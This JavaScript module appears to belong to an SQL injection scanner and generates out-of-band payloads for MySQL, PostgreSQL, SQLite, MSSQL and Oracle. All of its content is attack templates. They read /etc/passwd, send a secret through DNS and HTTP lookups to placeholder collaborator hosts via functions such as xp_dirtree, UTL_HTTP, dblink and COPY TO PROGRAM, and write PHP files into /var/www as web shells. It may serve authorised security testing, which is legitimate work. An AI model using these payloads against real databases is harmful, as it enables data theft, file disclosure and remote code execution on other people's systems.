import { WHERE_PLACES } from '../place.js';
import { sqlGenerator } from '../sql-generator.js';

const HOST = ['{tag}.example.net', 'x{scan}.collab.example.org', '127.0.0.1'];

/** Files read and written, and names looked up elsewhere with the secret in them. */
export const outOfBand = sqlGenerator({
  name: 'out-of-band',
  places: WHERE_PLACES,
  rules: {
    host: HOST,
    and: ['AND', 'or', 'OR'],
    start: [
      '{open} {and} {call} IS NOT NULL{close}',
      '{open} {and} ({call})=1{close}',
      '{open} {and} {call} {comment}',
    ],
  },
  byDialect: {
    mysql: {
      call: [
        "LOAD_FILE(CONCAT(0x5c5c5c5c,{secret},'.{host}\\\\\\\\{tag}'))",
        "LOAD_FILE('/etc/passwd')",
        'LOAD_FILE(0x2f6574632f706173737764)',
        "(SELECT LOAD_FILE('\\\\\\\\\\\\\\\\{host}\\\\\\\\a'))",
      ],
      start: [
        '{open} {and} {call} IS NOT NULL{close}',
        '{open} {and} LENGTH({call})>0{close}',
        '{open} UNION SELECT 1,{call},3 {comment}',
        "{open} INTO OUTFILE '/tmp/{tag}.txt' {comment}",
        "{open} UNION SELECT '<?php eval(1)?>',2,3 INTO DUMPFILE '/tmp/{tag}.php' {comment}",
        "{open} LIMIT 0,1 INTO OUTFILE '/var/www/{tag}.php' LINES TERMINATED BY 0x3c3f {comment}",
      ],
    },
    postgres: {
      call: [
        "pg_read_file('/etc/passwd')",
        "pg_ls_dir('.')::text",
        "lo_import('/etc/passwd')::text",
        "dblink_connect('host={host} user='||{secret})",
        "pg_stat_file('PG_VERSION')::text",
      ],
      start: [
        '{open} {and} {call} IS NOT NULL{close}',
        "{open};COPY (SELECT {secret}) TO PROGRAM 'nslookup {host}'{comment}",
        "{open};SELECT dblink_connect('host={host}'){comment}",
        '{open};CREATE EXTENSION dblink{comment}',
        '{open} {and} EXISTS(SELECT {call}){close}',
      ],
    },
    sqlite: {
      call: [
        "readfile('/etc/passwd')",
        "load_extension('\\\\{host}\\{tag}.dll')",
        "writefile('/tmp/{tag}',{secret})",
        "edit('x','vi')",
      ],
      start: [
        '{open} {and} {call} IS NOT NULL{close}',
        "{open};ATTACH DATABASE '/var/www/{tag}.php' AS {tag:a};CREATE TABLE {tag:a}.p(d text);{comment}",
      ],
    },
    mssql: {
      start: [
        "{open};EXEC master..xp_dirtree '\\\\{host}\\{tag}'{comment}",
        "{open};DECLARE @h VARCHAR(99);SET @h={secret};EXEC('master..xp_fileexist \"\\\\'+@h+'.{host}\\x\"'){comment}",
        "{open} {and} EXISTS(SELECT * FROM OPENROWSET('SQLOLEDB','{host}';'sa';'x','SELECT 1')){close}",
        "{open} {and} 1=(SELECT COUNT(*) FROM fn_xe_file_target_read_file('\\\\{host}\\a',NULL,NULL,NULL)){close}",
        "{open};EXEC xp_subdirs '//{host}/a'{comment}",
      ],
    },
    oracle: {
      call: [
        "UTL_HTTP.REQUEST('http://{host}/'||{secret})",
        "UTL_INADDR.GET_HOST_ADDRESS({secret}||'.{host}')",
        "HTTPURITYPE('http://{host}/'||{secret}).GETCLOB()",
        "DBMS_LDAP.INIT(({secret}||'.{host}'),80)",
        "EXTRACTVALUE(XMLTYPE('<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://{host}/'||{secret}||'\">%x;]>'),'/l')",
      ],
    },
  },
});
